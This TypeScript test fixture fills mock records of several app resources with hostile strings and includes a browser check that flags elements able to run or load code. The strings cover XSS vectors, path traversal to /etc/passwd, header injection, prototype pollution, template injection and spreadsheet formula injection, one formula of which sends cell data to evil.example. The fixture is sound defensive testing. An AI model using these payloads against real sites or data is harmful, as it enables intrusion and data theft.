import { contractSchema } from '@/resources/contracts/contract.schema';
import { notificationSignalSchema } from '@/resources/notification-signals/notification-signal.schema';
import { quotaPlanSchema } from '@/resources/quota-plans/quota-plan.schema';
import { unitSchema } from '@/resources/units/unit.schema';
import type { Records } from '@/mocks/store';
import type { ServiceDocument } from '@/schema/document';
import { fieldNames, fieldOf, type RecordSchema } from '@/schema/field';

/* Texts that somebody else may have stored, and records of every resource that carry them in every text. Any script sets `hacked`. */

const attack = 'globalThis.hacked=1';

/** Begins every text, so that a test can tell which was shown where; what must come first (a formula, a scheme) does. */
export const payloads: Readonly<Record<string, string>> = {
  script: `<script>${attack}</script>`,
  'script that ends a script': `</script><script>${attack}</script>`,
  'script that ends a title': `</title></textarea><script>${attack}</script>`,
  'img onerror': `<img src=x onerror="${attack}">`,
  'attribute that ends': `"><img src=x onerror=${attack}>`,
  'attribute with an apostrophe': `' autofocus onfocus=${attack} x='`,
  'svg onload': `<svg onload="${attack}"></svg>`,
  'svg picture': `data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${attack}'/%3E`,
  'mutation of markup': `<math><mtext><table><mglyph><style><img title="--&gt;&lt;img src=x onerror=${attack}&gt;">`,
  iframe: `<iframe srcdoc="<script>${attack}</script>"></iframe>`,
  'javascript address': `javascript:${attack}`,
  'javascript address in capitals, with a tab': `JaVa\tScRiPt:${attack}`,
  'vbscript address': 'vbscript:msgbox(1)',
  'data address': `data:text/html,<script>${attack}</script>`,
  'address of no scheme': '//evil.example/unit',
  'backslash address': '\\\\evil.example\\unit',
  'path upwards': '../../../etc/passwd',
  'mail header': 'a@b.example%0ABcc:all@evil.example\nBcc: all@evil.example',
  'base element': '<base href="https://evil.example/">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'form that sends': '<form action=https://evil.example><button>Save</button></form>',
  'style sheet': '</style><style>body{display:none}@import url(https://evil.example/x.css);</style>',
  'style value': 'red;background:url(https://evil.example/x.png);position:fixed;inset:0;width:99999px',
  entities: '&lt;script&gt;&amp;nbsp;&#x202e;&quot;',
  'template of Angular or Vue': '{{constructor.constructor("globalThis.hacked=1")()}}',
  // oxlint-disable-next-line no-template-curly-in-string -- as a text
  'template literal': '${globalThis.hacked=1}#{7*7}<%= 7*7 %>',
  'interpolation of the texts': '{{count}} {{name, uppercase}} {{-host}}',
  'nesting of the texts': '$t(common:appName) $t(save, {"count": 2})',
  'ICU message': "{count, plural, one {# unit} other {'{'}} {0}",
  printf: '%s %d %n %x %@ %1$s %%',
  formula: '=HYPERLINK("https://evil.example?x="&A1,"Total")',
  'formula with plus': "+1+cmd|' /C calc'!A0",
  'formula with minus': '-2+3+SUM(A1)',
  'formula with at': '@SUM(1+1)*A1',
  'formula after a tab': '\t=1+1',
  'formula after a line break': 'Noor\r\n=1+1',
  'right-to-left override': 'Tower \u202egnp.exe\u202c 12',
  'open isolates': '\u2067\u2067\u2066\u202b\u202d never closed',
  'invisible letters': 'Mar\u200bina\u2060 \u{e0041}\u{e0042}\u00adGate\ufeff',
  'combining marks': `Z${'\u0300\u0489'.repeat(60)}algo`,
  'control letters': 'a\u0000b\u0007c\u001b[31md\u0085e',
  'lone surrogates': 'a\ud800b\udc00c',
  'names of the language': '__proto__',
  constructor: 'constructor',
  'one long word': 'W'.repeat(2000),
  'long Arabic': 'برج '.repeat(500),
};

const texts = Object.values(payloads);

/** Fills every text of a record from the payloads, each time with the next, and lists with as many rows as are wanted. */
function hostile(schema: RecordSchema, next: () => string, rows: number): ServiceDocument {
  const entries = fieldNames(schema).map((name): [string, unknown] => {
    const { kind, fields } = fieldOf(schema, name);
    if (fields)
      return [
        name,
        kind === 'group' ? hostile(fields, next, rows) : Array.from({ length: rows }, () => hostile(fields, next, 1)),
      ];
    if (kind === 'texts') return [name, Array.from({ length: rows }, next)];
    if (kind === 'anything') return [name, [{ name: next(), other: next() }]];
    if (kind === 'numbers') return [name, [55.27, 25.2]];
    if (kind === 'flag') return [name, name !== 'deleted'];
    return [name, ['number', 'count', 'amount', 'ratio'].includes(kind) ? 3 : next()];
  });
  // Keys that no field has, one of them the prototype of every object.
  return JSON.parse(
    JSON.stringify(Object.fromEntries(entries)).replace(/^\{/, '{"__proto__":{"hacked":1},"constructor":"hacked",'),
  ) as ServiceDocument;
}

const schemas = {
  units: unitSchema,
  contracts: contractSchema,
  'notification-signals': notificationSignalSchema,
  'quota-plans': quotaPlanSchema,
} as const;

const recordsOf = (make: (schema: RecordSchema) => ServiceDocument[]): Records =>
  Object.fromEntries(Object.entries(schemas).map(([name, schema]) => [name, make(schema)]));

/** One record of every resource, `mixed`, with all payloads in turn. */
export function mixedRecords(): Records {
  let turn = 0;
  const next = () => texts[turn++ % texts.length] ?? '';
  return recordsOf((schema) => [{ ...hostile(schema, next, 3), _id: 'mixed' }]);
}

/** For every payload one record of every resource that has it in all its texts. */
export const recordsPerPayload = (): Records =>
  recordsOf((schema) => texts.map((text, place) => ({ ...hostile(schema, () => text, 1), _id: `p${place}` })));

/** Lists what a page must not contain, whatever it shows: elements and attributes that run, load or lead somewhere. A browser is given it alone. */
export function activeParts(): string[] {
  /** A path of the application, or a scheme that a link or a picture may have. */
  const leadsNowhere = ({ tagName }: Element, address: string): boolean =>
    /^(?:\/(?![/\\])|#|$)/.test(address) ||
    (tagName === 'IMG' ? /^(?:https:\/\/|data:image\/|blob:)/ : /^(?:https?:\/\/|mailto:|tel:)/).test(address);
  const root = document.body;
  const found = [...root.querySelectorAll('script, iframe, object, embed, base, meta[http-equiv], form[action], [srcdoc], math')];
  const attributes = [...root.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes]
      .filter(
        ({ name, value }) =>
          name.startsWith('on') || (/^(?:href|src|action|formaction|xlink:href)$/.test(name) && !leadsNowhere(element, value)),
      )
      .map(({ name, value }) => `${element.tagName} ${name}=${value.slice(0, 60)}`),
  );
  return [...found.map(({ tagName }) => tagName), ...attributes];
}
